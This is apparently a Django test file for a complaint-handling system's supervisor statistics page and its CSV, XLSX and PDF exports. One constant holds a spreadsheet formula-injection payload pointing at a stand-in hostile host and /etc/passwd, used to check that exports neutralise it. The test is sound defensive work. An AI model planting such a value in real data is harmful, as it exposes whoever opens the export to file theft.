# SPDX-License-Identifier: AGPL-3.0-or-later
"""The supervisor's figures: what is counted, for whom, and what of cases kept from them."""

import csv
import io
import re
from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.casework.test_export import cells_of
from tests.casework.test_inbox import file_without
from tests.casework.test_paper import read
from tests.cast import Actor, Cast, code
from tests.journeys import category, closing, conclude, file_report, send_to_examination
from wbs.audit.models import Entry as AuditEntry
from wbs.casework.figures import rank
from wbs.reports import standing
from wbs.reports.house import Agency
from wbs.reports.models import Grant, Report
from wbs.web import clock

PAGE = "/angka"
DOWNLOAD = "/angka/unduh"
# A Monday after which no public holiday comes for weeks.
MONDAY = datetime(2026, 7, 6, 9, tzinfo=ZoneInfo("Asia/Makassar"))


def agency(cast: Cast, name: str = "Dinas Kesehatan") -> Agency:
    """Return an office of the list, which the admin has put there."""
    cast.admin.post("/instansi", {"name": name})
    return Agency.objects.get(name=name)


def choose(actor: Actor, report: Report, chosen: Agency | None) -> Any:
    """Say on the page of a case what office it is about."""
    return actor.post(f"/meja/{report.id}/instansi", {"agency": str(chosen.id) if chosen else ""})


def table(actor: Actor) -> dict[tuple[str, str, str], str]:
    """Download the figures; return each by its heading, line and measure."""
    answer = actor.post(DOWNLOAD)
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
    return {(row[0], row[1], row[2]): row[3] for row in rows[1:]}


def taken(actor: Actor, kind: str) -> bytes:
    """Download the figures as a PDF or workbook."""
    answer = actor.post(DOWNLOAD, {"format": kind})
    assert answer.status_code == 200
    assert answer["Content-Disposition"].endswith(f'.{kind}"')
    assert answer["Cache-Control"] == "no-store"
    body: bytes = answer.content
    return body


def seen(actor: Actor, **period: str) -> str:
    """Return the figures as they are shown, without what differs each time."""
    if period:
        assert actor.post(PAGE, period).status_code == 302
    page = actor.get(PAGE)
    assert page.status_code == 200
    text = re.sub(
        r'name="csrfmiddlewaretoken" value="[^"]+"|data-left="\d+"', "", page.content.decode()
    )
    return re.sub(r"pukul \d\d\.\d\d", "", text)


def test_reports_are_counted_by_month_jenis_status_and_agency(cast: Cast) -> None:
    with clock.standing_at(MONDAY - timedelta(days=40)):
        file_report(cast.reporter, category=str(category("Narkoba").id))
    with clock.standing_at(MONDAY):
        reporter = cast.sign_in("reporter")
        second, closed = file_report(reporter), file_report(reporter)
        choose(cast.verifier, second, agency(cast))
        cast.verifier.post(f"/meja/{closed.id}/status/close", closing("Di luar wewenang."))
        told = table(cast.supervisor)
        page = seen(cast.supervisor)
    assert told["Aduan per bulan", "2026-05", "Diterima"] == "1"
    assert told["Aduan per bulan", "2026-06", "Diterima"] == "0"
    assert told["Aduan per bulan", "2026-07", "Diterima"] == "2"
    assert told["Aduan per bulan", "2026-07", "Tidak Ditindaklanjuti"] == "1"
    assert told["Jenis Aduan", "Narkoba", "Aduan"] == "1"
    assert told["Jenis Aduan", "Korupsi", "Aduan"] == "2"
    assert told["Status", "Proses Verifikasi", "Aduan"] == "2"
    assert told["Instansi", "Dinas Kesehatan", "Aduan"] == "1"
    assert told["Instansi", "Belum dipilih", "Aduan"] == "2"
    assert told["Umur aduan yang belum selesai", "31 sampai 60 hari", "Aduan"] == "1"
    assert "Juli 2026" in page
    assert "Dinas Kesehatan" in page


def test_each_step_is_told_with_its_median_its_worst_tenth_and_its_term(cast: Cast) -> None:
    """Ten are verified: eight after one working day, two after a week, over their three days."""
    for number in range(10):
        with clock.standing_at(MONDAY):
            report = file_report(cast.reporter, explanation=f"Perkara {number}")
        with clock.standing_at(MONDAY + timedelta(days=1 if number < 8 else 7)):
            send_to_examination(cast.sign_in("verifier"), report, cast.examiner)
    with clock.standing_at(MONDAY + timedelta(days=7)):
        told = table(cast.sign_in("supervisor"))
    step = {
        what: told["Waktu setiap langkah", "Verifikasi", what]
        for what in (
            "Batas, hari kerja",
            "Sudah selesai",
            "Nilai tengah, hari kerja",
            "90 dari 100 dalam, hari kerja",
            "Tepat waktu, persen",
        )
    }
    assert list(step.values()) == ["3", "10", "1", "5", "80"]


def test_waiting_for_the_reporter_is_not_counted_as_time_of_the_desk(cast: Cast) -> None:
    with clock.standing_at(MONDAY):
        report = file_report(cast.reporter)
        cast.verifier.post(f"/meja/{report.id}/kelengkapan", {"body": "Tanggal berapa?"})
    with clock.standing_at(MONDAY + timedelta(days=14)):
        cast.sign_in("reporter").post(f"/aduan/{report.id}/pesan", {"body": "Tanggal dua."})
    with clock.standing_at(MONDAY + timedelta(days=15)):
        send_to_examination(cast.sign_in("verifier"), report, cast.examiner)
    report.refresh_from_db()
    assert report.verified_in == 1


def test_first_action_and_conclusion_are_timed_and_a_reopened_case_begins_anew(cast: Cast) -> None:
    with clock.standing_at(MONDAY):
        report = file_report(cast.reporter)
        send_to_examination(cast.verifier, report, cast.examiner)
    with clock.standing_at(MONDAY + timedelta(days=2)):
        cast.sign_in("examiner").post(f"/meja/{report.id}/pesan", {"body": "Kami periksa."})
    later = MONDAY + timedelta(days=9)
    cast._in.clear()
    with clock.standing_at(later):
        conclude(cast, report, "prove")
        report.refresh_from_db()
        assert (report.verified_in, report.acted_in, report.concluded_in) == (0, 2, 7)
        told = table(cast.supervisor)
        assert told["Waktu setiap langkah", "Hasil pemeriksaan", "Nilai tengah, hari kerja"] == "7"
        for grant in Grant.objects.filter(report=report, holder="staff"):
            assert {name: getattr(grant, name) for name in standing.NAMES} == standing.of(report)
        cast.supervisor.post(f"/meja/{report.id}/status/reopen", {"reason": "Ada bukti baru."})
    report.refresh_from_db()
    assert (report.verified_in, report.acted_in, report.concluded_in) == (None, None, None)


def test_a_term_that_is_set_later_does_not_make_what_was_late_be_in_time(cast: Cast) -> None:
    with clock.standing_at(MONDAY):
        report = file_report(cast.reporter)
    with clock.standing_at(MONDAY + timedelta(days=7)):
        send_to_examination(cast.sign_in("verifier"), report, cast.examiner)
        cast.sign_in("admin").post("/batas-waktu/langkah", {"term": "verification", "days": "30"})
        told = table(cast.sign_in("supervisor"))
    assert told["Waktu setiap langkah", "Verifikasi", "Batas, hari kerja"] == "30"
    assert told["Waktu setiap langkah", "Verifikasi", "Tepat waktu, persen"] == "0"


def test_the_load_of_each_person_is_told_with_what_is_over_its_day(cast: Cast) -> None:
    with clock.standing_at(MONDAY):
        mine, nobodys = file_report(cast.reporter), file_report(cast.reporter)
        cast.verifier.post(f"/meja/{mine.id}/penanggung-jawab", {"owner": "me"})
    with clock.standing_at(MONDAY + timedelta(days=20)):
        told = table(cast.sign_in("supervisor"))
    name = cast.people["verifier"].name
    assert told["Beban per petugas", name, "Belum selesai"] == "1"
    assert told["Beban per petugas", name, "Lewat batas"] == "1"
    assert told["Beban per petugas", "Belum ada", "Belum selesai"] == "1"
    assert nobodys.owner is None


def test_the_period_is_chosen_kept_and_not_in_the_address(cast: Cast) -> None:
    with clock.standing_at(MONDAY - timedelta(days=400)):
        file_report(cast.reporter)
    with clock.standing_at(MONDAY):
        file_report(cast.sign_in("reporter"))
        boss = cast.sign_in("supervisor")
        for period, count in (
            ({"name": "year"}, 1),
            ({"name": "last_year"}, 1),
            ({"name": "quarter"}, 1),
            ({"name": "last_quarter"}, 0),
            ({"name": "months"}, 1),
            ({"name": "all"}, 2),
            ({"name": "own", "begin": "1/1/2025", "end": "31/12/2025"}, 1),
            ({"name": "own", "end": "1/1/2025"}, 0),
        ):
            answer = boss.post(PAGE, period)
            assert (answer.status_code, answer["Location"]) == (302, PAGE)
            assert f"<strong>{count} aduan</strong>" in boss.get(DOWNLOAD).content.decode(), period


@pytest.mark.parametrize(
    ("sent", "slip"),
    [
        ({"name": "own"}, "Tulis dari tanggal berapa"),
        ({"name": "own", "begin": "2/1/2026", "end": "1/1/2026"}, "sebelum awalnya"),
        ({"name": "own", "begin": "kemarin"}, "Tulis tanggal sebagai hari/bulan/tahun"),
    ],
)
def test_a_period_that_makes_no_sense_comes_back_with_what_was_typed(
    cast: Cast, sent: dict[str, str], slip: str
) -> None:
    answer = cast.supervisor.post(PAGE, sent)
    assert answer.status_code == 422
    assert slip in answer.content.decode()
    assert all(f'value="{said}"' in answer.content.decode() for said in sent.values())


def _at_first(cast: Cast, report: Report) -> None:
    """Nothing more is done with the case."""


def _closed(cast: Cast, report: Report) -> None:
    cast.verifier.post(f"/meja/{report.id}/status/close", closing("Di luar wewenang."))


def _assigned(cast: Cast, report: Report) -> None:
    choose(cast.verifier, report, agency(cast, "RSUD"))
    cast.verifier.post(f"/meja/{report.id}/penanggung-jawab", {"owner": "me"})
    send_to_examination(cast.verifier, report, cast.examiner)


@pytest.mark.parametrize("deeds", [_at_first, _closed, _assigned])
def test_with_and_without_a_case_kept_from_them_the_supervisor_is_sent_the_same_bytes(
    cast: Cast, deeds: Callable[[Cast, Report], None]
) -> None:
    file_report(cast.reporter)
    period = {"name": "all"}
    before = seen(cast.supervisor, **period), cast.supervisor.post(DOWNLOAD).content
    kept_out = file_without(cast, "supervisor")
    deeds(cast, kept_out)
    assert (seen(cast.supervisor, **period), cast.supervisor.post(DOWNLOAD).content) == before
    assert table(cast.alternate)["Status", "Proses Pemeriksaan", "Aduan"] == (
        "1" if deeds is _assigned else "0"
    )


def test_the_alternate_counts_only_what_concerns_the_supervisor(cast: Cast) -> None:
    file_report(cast.reporter)
    assert "Tidak ada aduan dalam masa ini" in seen(cast.alternate)
    file_without(cast, "supervisor")
    assert table(cast.alternate)["Status", "Proses Verifikasi", "Aduan"] == "1"


def test_the_page_reads_grants_and_lists_alone_and_nothing_sealed(cast: Cast) -> None:
    file_report(cast.reporter)
    cast.supervisor.get(PAGE)
    with CaptureQueriesContext(
        connection,
    ) as asked:
        cast.supervisor.get(PAGE)
    counted = [one["sql"] for one in asked if '"reports_' in one["sql"]]
    assert counted
    for sql in counted:
        assert '"reports_report"' not in sql
        assert not any(f'"{name}"' in sql for name in ("case_key", "desk_key", "sealed", "custody"))


def test_a_download_is_recorded_and_asks_for_the_second_step_again(cast: Cast) -> None:
    actor = cast.supervisor
    with clock.standing_at(clock.now() + timedelta(minutes=6)):
        assert actor.get(DOWNLOAD)["Location"].startswith("/login/langkah-kedua")
        assert actor.post(DOWNLOAD).status_code == 403
        assert not AuditEntry.objects.filter(event="figures:exported").exists()
        answer = actor.post(DOWNLOAD, {"second-totp": code()})
    assert answer["Content-Disposition"].startswith('attachment; filename="angka-')
    assert answer["Cache-Control"] == "no-store"
    assert AuditEntry.objects.filter(event="figures:exported").count() == 1


HOSTILE = '=HYPERLINK("http://jahat.example";#read("/etc/passwd"))'


def test_on_paper_and_in_both_tables_the_figures_are_those_of_the_page(cast: Cast) -> None:
    """And a name that an admin gave is only ever shown."""
    with clock.standing_at(MONDAY):
        report, other = file_report(cast.reporter), file_report(cast.reporter)
        choose(cast.verifier, report, agency(cast, HOSTILE))
        cast.verifier.post(f"/meja/{other.id}/status/close", closing("Di luar wewenang."))
        told = table(cast.supervisor)
        book, paper = taken(cast.supervisor, "xlsx"), taken(cast.supervisor, "pdf")
        cast.supervisor.client.cookies["lang"] = "en"
        english = read(taken(cast.supervisor, "pdf"))
    head, *rows = cells_of(book)
    assert head == ["Bagian", "Baris", "Ukuran", "Angka"]
    assert [str(row[3]) for row in rows] == list(told.values())
    assert told["Instansi", f"'{HOSTILE}", "Aduan"] == "1"
    assert ["Instansi", HOSTILE, "Aduan", 1] in rows
    shown = read(paper)
    for one in (
        *("Inspektorat Kota Contoh", "TERBATAS", "Diunduh oleh Surya Inspektur, 6 Juli 2026"),
        *("1 Januari 2026 sampai 6 Juli 2026", "Juli 2026 2 1 0 0 0 1", "Sudah selesai 1 (50%)"),
        *("Korupsi 2 100%", "1 / 3", "3 / 3"),
    ):
        assert one in shown, one
    assert "".join(HOSTILE.split()) in "".join(shown.split())
    assert "root:x:0" not in shown
    for one in ("RESTRICTED", "1 January 2026 to 6 July 2026", "Reports per month", "Workload"):
        assert one in english, one
    kinds = AuditEntry.objects.filter(event="figures:exported").values_list("details", flat=True)
    assert [one["kind"] for one in kinds.order_by("position")] == ["csv", "xlsx", "pdf", "pdf"]


def test_a_paper_without_any_report_says_so(cast: Cast) -> None:
    assert "Beban per petugas Tidak ada." in read(taken(cast.supervisor, "pdf"))


def test_the_figure_that_so_many_do_not_exceed_is_the_nearest_rank() -> None:
    assert rank({}, 50) is None
    assert rank({4: 1}, 50) == rank({4: 1}, 90) == 4
    assert rank({1: 5, 2: 5}, 50) == 1
    assert rank({1: 4, 2: 6}, 50) == 2
    assert rank({1: 9, 30: 1}, 90) == 1
    assert rank({1: 8, 30: 2}, 90) == 30
